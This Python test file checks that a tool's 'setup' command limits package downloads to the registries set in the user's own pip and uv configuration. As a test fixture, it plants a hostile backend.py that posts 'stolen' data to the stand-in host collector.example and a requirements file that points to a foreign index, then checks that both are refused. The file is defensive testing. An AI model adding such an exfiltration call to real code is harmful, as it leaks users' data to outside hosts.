"""`punchlist setup` reaches the registries that the user's own settings name, whatever the project asks for."""

import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest

import fresh_clone
from punchlist.adapters.egress.traffic import EgressLog
from punchlist.adapters.environments.registries import build_egress


class Files(SimpleHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.got.append(self.path)
        super().do_GET()

    def log_message(self, *words: object) -> None:
        pass


@pytest.fixture
def registries(tmp_path):
    """Two registries with the same package; each keeps what was asked of it."""
    made = []
    for name in ("own", "foreign"):
        wheels = tmp_path / name / "simple" / "text-folding"
        wheels.parent.mkdir(parents=True)
        fresh_clone.write_registry(wheels)
        server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Files, directory=tmp_path / name))
        server.got = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        made.append(server)
    yield made
    for server in made:
        server.shutdown()
        server.server_close()


BACKEND = """
import urllib.request
def attempt(url):
    try: urllib.request.urlopen(url, data=b"stolen", timeout=5)
    except OSError: pass
attempt("http://collector.example/")
"""


def test_a_project_that_names_another_registry_or_host_does_not_reach_it(
    repo, make_punchlist, registries
):
    own, foreign = (f"127.0.0.1:{server.server_address[1]}" for server in registries)
    requirements = f"--extra-index-url http://{foreign}/simple\ntext-folding\n"
    backend = BACKEND + fresh_clone.BACKEND
    repo.commit({**fresh_clone.FILES, "requirements.txt": requirements, "backend.py": backend})
    punchlist = make_punchlist(repo.root)
    punchlist.env |= {
        "PIP_INDEX_URL": f"http://{own}/simple",
        "PIP_CONFIG_FILE": "/dev/null",
        "PIP_RETRIES": "0",
    }
    made = punchlist("setup", "--yes")
    assert made.returncode == 0, made.stderr
    assert f"refused: {foreign} (not listed); list it in setup.hosts" in made.stderr
    assert "refused: collector.example:80 (not listed)" in made.stderr
    assert "/simple/text-folding/" in registries[0].got
    assert [path for path in registries[1].got if "text-folding" in path] == []


def allowed(environment, installer="pip", hosts=()):
    return [
        str(rule) for rule in build_egress(environment, hosts, installer, EgressLog()).policy.rules
    ]


PYPI = ["pypi.org:443", "files.pythonhosted.org:443"]


@pytest.mark.parametrize(
    ("installer", "environment", "expected"),
    [
        ("pip", {}, PYPI),
        ("uv", {}, PYPI),
        ("pip", {"PIP_INDEX_URL": "https://ada:pw@pip.corp/simple"}, ["pip.corp:443"]),
        (
            "pip",
            {"PIP_EXTRA_INDEX_URL": "https://a.corp/x http://b.corp:8080/y"},
            ["a.corp:443", "b.corp:8080", *PYPI],
        ),
        ("pip", {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "/wheels"}, []),
        ("uv", {"UV_DEFAULT_INDEX": "https://uv.corp/simple"}, ["uv.corp:443"]),
        ("uv", {"UV_INDEX": "corp=https://uv.corp/simple"}, ["uv.corp:443", *PYPI]),
        ("uv", {"PIP_INDEX_URL": "https://pip.corp/simple"}, ["pip.corp:443", *PYPI]),
        ("pip", {"PIP_INDEX_URL": "https://pypi.org/simple"}, PYPI),
        ("pip", {"PIP_PROXY": "http://proxy.corp:3128"}, PYPI),
        ("pip", {"HTTPS_PROXY": "http://proxy.corp:3128"}, PYPI),
    ],
)
def test_the_registries_are_those_of_the_user_s_variables(installer, environment, expected):
    nowhere = {"XDG_CONFIG_HOME": "/nowhere"}
    assert allowed({**nowhere, **environment}, installer) == expected


def test_the_registries_are_those_of_the_user_s_files(tmp_path):
    (tmp_path / "pip").mkdir()
    (tmp_path / "uv").mkdir()
    pip = "[global]\nindex-url = https://pip.corp/simple\nproxy = http://proxy.corp\n[install]\nextra-index-url =\n  https://a.corp/x\n  https://b.corp/y\n"
    (tmp_path / "pip/pip.conf").write_text(pip)
    uv = 'http-proxy = "http://proxy.corp"\n[[index]]\nname = "c"\nurl = "https://uv.corp/simple"\ndefault = true\n[pip]\nextra-index-url = ["https://d.corp/x"]\n'
    (tmp_path / "uv/uv.toml").write_text(uv)
    home = {"XDG_CONFIG_HOME": str(tmp_path)}
    assert allowed(home, "pip", ["e.corp:8443"]) == [
        "pip.corp:443",
        "a.corp:443",
        "b.corp:443",
        "e.corp:8443",
    ]
    assert allowed(home, "uv") == ["uv.corp:443", "d.corp:443"]
